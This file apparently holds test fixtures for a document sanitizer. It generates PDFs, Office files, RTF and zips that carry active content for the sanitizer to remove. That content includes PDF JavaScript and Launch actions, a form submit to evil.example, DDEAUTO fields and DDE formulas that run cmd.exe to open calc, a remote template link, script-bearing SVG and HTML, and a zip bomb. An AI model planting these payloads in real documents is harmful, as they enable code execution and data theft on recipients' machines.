import { execFileSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import * as zlib from 'node:zlib';
import { zipSync, unzipSync } from 'fflate';
import * as jpeg from 'jpeg-js';
import { PNG } from 'pngjs';
import { generatedCorpusFile } from './eicar';
import { PDFArray, PDFDocument, PDFHexString, PDFName, PDFString } from 'pdf-lib';

/** Generated test inputs for what the public corpus lacks (PDFs, images with metadata, bombs, nesting). */

/** Public test files nobody here wrote, copied into the repository (see test/fixtures/MANIFEST.tsv). */
export const CORPUS = path.resolve(__dirname, '..', 'fixtures', 'corpus');
/** A corpus file by its path in the public corpus; the EICAR files are generated at test time. */
export const corpusFile = (rel: string) => generatedCorpusFile(rel, CORPUS) ?? fs.readFileSync(path.join(CORPUS, rel));

export const PAYLOAD_MARKER = 'MZ-EMBEDDED-PAYLOAD-7f3a9c';

/** A PDF with every kind of active content the sanitizer must remove, mostly inside object streams. */
export async function activePdf(opts: { objectStreams?: boolean } = {}): Promise<Buffer> {
  const doc = await PDFDocument.create();
  const page = doc.addPage([300, 200]);
  page.drawText('Hello from the sanitizer test', { x: 20, y: 100, size: 12 });
  const ctx = doc.context;
  const js = ctx.register(ctx.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of("app.alert('pwned')") }));
  doc.catalog.set(PDFName.of('OpenAction'), js);
  doc.catalog.set(PDFName.of('AA'), ctx.obj({ WC: ctx.obj({ S: 'JavaScript', JS: PDFString.of('this.print()') }) }));
  const payload = ctx.register(ctx.flateStream(Buffer.from(`${PAYLOAD_MARKER} this stands in for an executable`), { Type: 'EmbeddedFile' }));
  const filespec = ctx.register(ctx.obj({ Type: 'Filespec', F: PDFString.of('payload.exe'), UF: PDFHexString.fromText('payload.exe'), EF: ctx.obj({ F: payload }) }));
  const jsTree = ctx.obj({ Names: [PDFString.of('init'), js] });
  const efTree = ctx.obj({ Names: [PDFString.of('payload.exe'), filespec] });
  doc.catalog.set(PDFName.of('Names'), ctx.obj({ JavaScript: jsTree, EmbeddedFiles: efTree }));
  const launch = ctx.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 50, 20], A: ctx.obj({ S: 'Launch', F: PDFString.of('cmd.exe'), NewWindow: true }) });
  const gotor = ctx.obj({ Type: 'Annot', Subtype: 'Link', Rect: [60, 0, 110, 20], A: ctx.obj({ S: 'GoToR', F: PDFString.of('\\\\evil\\share\\x.pdf'), D: [0, PDFName.of('Fit')] }) });
  const uri = ctx.obj({ Type: 'Annot', Subtype: 'Link', Rect: [120, 0, 170, 20], A: ctx.obj({ S: 'URI', URI: PDFString.of('https://www.city.example.lg.jp/') }) });
  const attach = ctx.obj({ Type: 'Annot', Subtype: 'FileAttachment', Rect: [180, 0, 200, 20], FS: filespec });
  const submit = ctx.obj({ Type: 'Annot', Subtype: 'Widget', FT: 'Btn', T: PDFString.of('send'), Rect: [210, 0, 260, 20], A: ctx.obj({ S: 'SubmitForm', F: PDFString.of('https://evil.example/collect') }), AA: ctx.obj({ K: ctx.obj({ S: 'JavaScript', JS: PDFString.of('1') }) }) });
  const rich = ctx.obj({ Type: 'Annot', Subtype: 'RichMedia', Rect: [0, 30, 20, 50] });
  const annots = ctx.obj([launch, gotor, uri, attach, submit, rich].map((a) => ctx.register(a))) as PDFArray;
  page.node.set(PDFName.of('Annots'), annots);
  page.node.set(PDFName.of('AA'), ctx.obj({ O: js }));
  const xfa = ctx.register(ctx.flateStream(Buffer.from('<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>app.alert(1)</script></xdp:xdp>')));
  doc.catalog.set(PDFName.of('AcroForm'), ctx.obj({ Fields: [], XFA: xfa }));
  return Buffer.from(await doc.save({ useObjectStreams: opts.objectStreams ?? true }));
}

export async function cleanPdf(): Promise<Buffer> {
  const doc = await PDFDocument.create();
  doc.addPage([300, 200]).drawText('A plain page', { x: 20, y: 100, size: 12 });
  return Buffer.from(await doc.save());
}

/** A PDF encrypted with qpdf (AES-256, a user password). */
export async function encryptedPdf(): Promise<Buffer> {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'encpdf-'));
  fs.writeFileSync(path.join(dir, 'in.pdf'), await cleanPdf());
  execFileSync('qpdf', ['--encrypt', 'user-secret', 'owner-secret', '256', '--', path.join(dir, 'in.pdf'), path.join(dir, 'out.pdf')]);
  const out = fs.readFileSync(path.join(dir, 'out.pdf'));
  fs.rmSync(dir, { recursive: true, force: true });
  return out;
}

/** A JPEG with an EXIF APP1 segment (GPS-like metadata) after SOI. */
export function jpegWithExif(): Buffer {
  const w = 16;
  const h = 16;
  const data = Buffer.alloc(w * h * 4, 0x80);
  const plain = Buffer.from(jpeg.encode({ width: w, height: h, data }, 90).data);
  const body = Buffer.concat([Buffer.from('Exif\0\0', 'latin1'), Buffer.from('MM\0*\0\0\0\x08GPS 35.6895N 139.6917E secret-location', 'latin1')]);
  const app1 = Buffer.concat([Buffer.from([0xff, 0xe1]), Buffer.from([(body.length + 2) >> 8, (body.length + 2) & 0xff]), body]);
  return Buffer.concat([plain.subarray(0, 2), app1, plain.subarray(2)]);
}

function pngChunk(type: string, data: Buffer): Buffer {
  const len = Buffer.alloc(4);
  len.writeUInt32BE(data.length);
  const td = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(zlib.crc32(td) >>> 0);
  return Buffer.concat([len, td, crc]);
}

export function pngWithText(): Buffer {
  const png = new PNG({ width: 8, height: 8 });
  png.data.fill(0xcc);
  const plain = PNG.sync.write(png);
  const iend = plain.length - 12;
  return Buffer.concat([plain.subarray(0, iend), pngChunk('tEXt', Buffer.from('Comment\0<script>alert(1)</script>', 'latin1')), plain.subarray(iend)]);
}

export function zipOf(files: Record<string, Buffer>, level: 0 | 6 | 9 = 6): Buffer {
  const z: Record<string, [Uint8Array, { level: 0 | 6 | 9 }]> = {};
  for (const [n, b] of Object.entries(files)) z[n] = [new Uint8Array(b), { level }];
  return Buffer.from(zipSync(z));
}

export function unzip(buf: Buffer): Record<string, Buffer> {
  const out: Record<string, Buffer> = {};
  for (const [n, b] of Object.entries(unzipSync(new Uint8Array(buf)))) out[n] = Buffer.from(b);
  return out;
}

/** 64 MiB of zeros in a zip of about 64 KiB. */
export function zipBomb(): Buffer {
  return zipOf({ 'zeros.txt': Buffer.alloc(64 * 1024 * 1024) }, 9);
}

/** A zip whose entry declares 10 bytes but inflates to a megabyte (sizes forged in both headers). */
export function lyingZip(): Buffer {
  const z = zipOf({ 'small.txt': Buffer.alloc(1024 * 1024, 0x41) }, 9);
  const forged = Buffer.from(z);
  forged.writeUInt32LE(10, 22); // local header: uncompressed size
  const cen = forged.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02]));
  forged.writeUInt32LE(10, cen + 24);
  return forged;
}

/** A text file wrapped in `levels` zips. */
export function nestedZip(levels: number): Buffer {
  let cur = zipOf({ 'note.txt': Buffer.from('hello\n') });
  for (let i = 1; i < levels; i++) cur = zipOf({ [`level${i}.zip`]: cur });
  return cur;
}

/** A minimal docx with a hyperlink (kept) and an external attached template (removed). */
export function docxWithLinks(): Buffer {
  const ct = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/><Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/></Types>`;
  const rels = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>`;
  const docRels = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://www.city.example.lg.jp/info" TargetMode="External"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/settings" Target="settings.xml"/></Relationships>`;
  const settingsRels = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/template.dotm" TargetMode="External"/></Relationships>`;
  const settings = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:attachedTemplate r:id="rId9"/></w:settings>`;
  const doc = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:body><w:p><w:hyperlink r:id="rId1"><w:r><w:t>市のお知らせ</w:t></w:r></w:hyperlink></w:p><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> dd</w:instrText></w:r><w:r><w:instrText xml:space="preserve">eauto c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>result</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body></w:document>`;
  return zipOf({
    '[Content_Types].xml': Buffer.from(ct),
    '_rels/.rels': Buffer.from(rels),
    'word/document.xml': Buffer.from(doc),
    'word/_rels/document.xml.rels': Buffer.from(docRels),
    'word/settings.xml': Buffer.from(settings),
    'word/_rels/settings.xml.rels': Buffer.from(settingsRels),
  });
}

export const RTF_WITH_OBJECTS = Buffer.from(
  '{\\rtf1\\ansi{\\fonttbl{\\f0 Arial;}}\\f0 Before the object.\\par' +
    '{\\object\\objemb\\objw100\\objh100{\\*\\objclass Package}{\\*\\objdata 0105000002000000080000005061636b616765}{\\result {\\b [Package object]}}}' +
    '\\par {\\field{\\*\\fldinst { DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"}}{\\fldrslt {result}}}' +
    '\\par{\\*\\datastore 0105000002000000}After.\\par}',
  'latin1',
);

const W = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
const R = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const RT = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const XML_DECL = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>';

/**
 * A Word package from its parts: `document` is the body XML (inside w:body),
 * `rels` the document's relationships as [id, type (last segment or full URI), target, external?],
 * `overrides` extra content types by part name, `parts` extra parts.
 */
export function docxOf(opts: {
  document: string;
  rels?: [string, string, string, boolean?][];
  overrides?: Record<string, string>;
  defaults?: Record<string, string>;
  parts?: Record<string, Buffer | string>;
  mainType?: string;
  rootRels?: string;
}): Buffer {
  const mainType = opts.mainType ?? 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
  const defaults = { rels: 'application/vnd.openxmlformats-package.relationships+xml', xml: 'application/xml', ...(opts.defaults ?? {}) };
  const ct = `${XML_DECL}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">${Object.entries(defaults).map(([e, t]) => `<Default Extension="${e}" ContentType="${t}"/>`).join('')}<Override PartName="/word/document.xml" ContentType="${mainType}"/>${Object.entries(opts.overrides ?? {}).map(([p, t]) => `<Override PartName="/${p}" ContentType="${t}"/>`).join('')}</Types>`;
  const rootRels = `${XML_DECL}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${RT}/officeDocument" Target="word/document.xml"/>${opts.rootRels ?? ''}</Relationships>`;
  const docRels = `${XML_DECL}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${(opts.rels ?? []).map(([id, type, target, ext]) => `<Relationship Id="${id}" Type="${type.includes('/') ? type : `${RT}/${type}`}" Target="${target}"${ext ? ' TargetMode="External"' : ''}/>`).join('')}</Relationships>`;
  const doc = `${XML_DECL}<w:document xmlns:w="${W}" xmlns:r="${R}"><w:body>${opts.document}<w:sectPr/></w:body></w:document>`;
  const files: Record<string, Buffer> = {
    '[Content_Types].xml': Buffer.from(ct),
    '_rels/.rels': Buffer.from(rootRels),
    'word/document.xml': Buffer.from(doc),
    'word/_rels/document.xml.rels': Buffer.from(docRels),
  };
  for (const [n, b] of Object.entries(opts.parts ?? {})) files[n] = Buffer.isBuffer(b) ? b : Buffer.from(b);
  return zipOf(files);
}

const para = (text: string) => `<w:p><w:r><w:t xml:space="preserve">${text}</w:t></w:r></w:p>`;
const ddeField = (instr: string) => `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">${instr}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>result</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;

/** A docx importing an RTF with an OLE object (and a DDE field) through w:altChunk. */
export function docxWithAltChunkRtf(): Buffer {
  return docxOf({
    document: `${para('Before the chunk.')}<w:altChunk r:id="rIdChunk"/>${para('After the chunk.')}`,
    rels: [['rIdChunk', 'aFChunk', 'afchunk.rtf']],
    defaults: { rtf: 'application/rtf' },
    parts: { 'word/afchunk.rtf': RTF_WITH_OBJECTS },
  });
}

/** A docx importing HTML (with a script) and MHT through altChunk. */
export function docxWithAltChunkHtmlMht(): Buffer {
  return docxOf({
    document: `${para('Intro.')}<w:altChunk r:id="rIdHtml"/><w:altChunk r:id="rIdMht"/>`,
    rels: [
      ['rIdHtml', 'aFChunk', 'chunk.htm'],
      ['rIdMht', 'aFChunk', 'chunk.mht'],
    ],
    defaults: { htm: 'text/html', mht: 'message/rfc822' },
    parts: { 'word/chunk.htm': '<html><body><p>Imported text</p><script>alert(1)</script></body></html>', 'word/chunk.mht': 'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<script>x()</script>\r\n--b--\r\n' },
  });
}

/** A docx importing another docx (which carries a DDE field and a VBA project) through altChunk. */
export function docxWithAltChunkDocx(): Buffer {
  const inner = docxOf({
    document: ddeField('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'),
    mainType: 'application/vnd.ms-word.document.macroEnabled.main+xml',
    rels: [['rIdVba', 'http://schemas.microsoft.com/office/2006/relationships/vbaProject', 'vbaProject.bin']],
    defaults: { bin: 'application/vnd.ms-office.vbaProject' },
    parts: { 'word/vbaProject.bin': Buffer.from('not really a VBA project') },
  });
  return docxOf({
    document: `${para('Outer.')}<w:altChunk r:id="rIdDoc"/>`,
    rels: [['rIdDoc', 'aFChunk', 'inner.docm']],
    defaults: { docm: 'application/vnd.ms-word.document.macroEnabled.12' },
    parts: { 'word/inner.docm': inner },
  });
}

/**
 * A docx with every other import: a sub-document, a frameset with a source,
 * a glossary document carrying a DDE field, an obfuscated embedded font, an
 * SVG picture, a part of an unknown type, an unknown relationship type, a
 * simple DDE field and a field whose type a nested QUOTE field computes.
 */
export function docxWithImports(): Buffer {
  const glossary = `${XML_DECL}<w:glossaryDocument xmlns:w="${W}"><w:docParts><w:docPart><w:docPartBody>${ddeField('DDE cmd "/c calc" x')}</w:docPartBody></w:docPart></w:docParts></w:glossaryDocument>`;
  const web = `${XML_DECL}<w:webSettings xmlns:w="${W}" xmlns:r="${R}"><w:frameset><w:frame><w:sourceFileName r:id="rIdFrame"/></w:frame></w:frameset></w:webSettings>`;
  const fonts = `${XML_DECL}<w:fonts xmlns:w="${W}" xmlns:r="${R}"><w:font w:name="Evil"><w:embedRegular r:id="rIdFont" w:fontKey="{00000000-0000-0000-0000-000000000000}"/></w:font></w:fonts>`;
  const computed = `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>QUOTE 68 68 69</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText xml:space="preserve"> cmd "/c calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;
  return docxOf({
    document: `${para('Main text.')}<w:p><w:subDoc r:id="rIdSub"/></w:p><w:p><w:fldSimple w:instr=" DDEAUTO cmd &quot;/c calc&quot;"><w:r><w:t>simple</w:t></w:r></w:fldSimple></w:p>${computed}<w:p><w:r><w:drawing><w:customData r:id="rIdOdd"/></w:drawing></w:r></w:p>`,
    rels: [
      ['rIdSub', 'subDocument', 'sub.docx'],
      ['rIdWeb', 'webSettings', 'webSettings.xml'],
      ['rIdFonts', 'fontTable', 'fontTable.xml'],
      ['rIdGloss', 'glossaryDocument', 'glossary/document.xml'],
      ['rIdOdd', 'http://example.com/relationships/mystery', 'mystery.bin'],
      ['rIdSvg', 'image', 'media/pic.svg'],
    ],
    overrides: {
      'word/webSettings.xml': 'application/vnd.openxmlformats-officedocument.wordprocessingml.webSettings+xml',
      'word/fontTable.xml': 'application/vnd.openxmlformats-officedocument.wordprocessingml.fontTable+xml',
      'word/glossary/document.xml': 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.glossary+xml',
      'word/sub.docx': 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
      'word/mystery.bin': 'application/x-mystery',
    },
    defaults: { odttf: 'application/vnd.openxmlformats-officedocument.obfuscatedFont', svg: 'image/svg+xml' },
    parts: {
      'word/webSettings.xml': web,
      'word/_rels/webSettings.xml.rels': `${XML_DECL}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rIdFrame" Type="${RT}/frame" Target="file:///c:/evil/frame.docx" TargetMode="External"/></Relationships>`,
      'word/fontTable.xml': fonts,
      'word/_rels/fontTable.xml.rels': `${XML_DECL}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rIdFont" Type="${RT}/font" Target="fonts/font1.odttf"/></Relationships>`,
      'word/fonts/font1.odttf': Buffer.alloc(64, 7),
      'word/glossary/document.xml': glossary,
      'word/sub.docx': docxOf({ document: para('sub') }),
      'word/mystery.bin': Buffer.from('?'),
      'word/media/pic.svg': '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    },
  });
}

/** A .docm with no VBA part at all, but a dangling vbaProject mapping and relationship. */
export function docmWithoutMacros(): Buffer {
  return docxOf({
    document: para('No macros here.'),
    mainType: 'application/vnd.ms-word.document.macroEnabled.main+xml',
    defaults: { bin: 'application/vnd.ms-office.vbaProject' },
    rels: [['rIdVba', 'http://schemas.microsoft.com/office/2006/relationships/vbaProject', 'vbaProject.bin']],
  });
}

/** An xlsx with DDE formulas: a plain cell, a shared formula and a defined name, written as Excel writes them. */
export function xlsxWithDdeFormulas(): Buffer {
  const X = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
  const ct = `${XML_DECL}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>`;
  const rels = `${XML_DECL}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${RT}/officeDocument" Target="xl/workbook.xml"/></Relationships>`;
  const wbRels = `${XML_DECL}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${RT}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`;
  const wb = `${XML_DECL}<workbook xmlns="${X}" xmlns:r="${R}"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets><definedNames><definedName name="Payload">cmd|' /c calc'!A0</definedName><definedName name="Plain">Sheet1!$A$1</definedName></definedNames></workbook>`;
  const sheet = `${XML_DECL}<worksheet xmlns="${X}"><sheetData><row r="1"><c r="A1"><f>cmd|' /c calc'!A0</f><v>0</v></c><c r="B1"><v>42</v></c><c r="C1"><f>SUM(B1,1)</f><v>43</v></c></row><row r="2"><c r="A2"><f t="shared" ref="A2:A3" si="0">msexcel|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''</f><v>0</v></c></row><row r="3"><c r="A3"><f t="shared" si="0"/><v>0</v></c></row></sheetData></worksheet>`;
  return zipOf({ '[Content_Types].xml': Buffer.from(ct), '_rels/.rels': Buffer.from(rels), 'xl/workbook.xml': Buffer.from(wb), 'xl/_rels/workbook.xml.rels': Buffer.from(wbRels), 'xl/worksheets/sheet1.xml': Buffer.from(sheet) });
}

/** Word 2003 XML with a DDE field written with prefix `x` for WordML and a simple field. */
export function word2003Xml(): Buffer {
  return Buffer.from(
    `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><?mso-application progid="Word.Document"?><x:wordDocument xmlns:x="http://schemas.microsoft.com/office/word/2003/wordml"><x:body><x:p><x:r><x:fldChar x:fldCharType="begin"/></x:r><x:r><x:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"</x:instrText></x:r><x:r><x:fldChar x:fldCharType="end"/></x:r></x:p><x:p><x:fldSimple x:instr="DDE cmd x"><x:r><x:t>s</x:t></x:r></x:fldSimple></x:p></x:body></x:wordDocument>`,
    'utf8',
  );
}
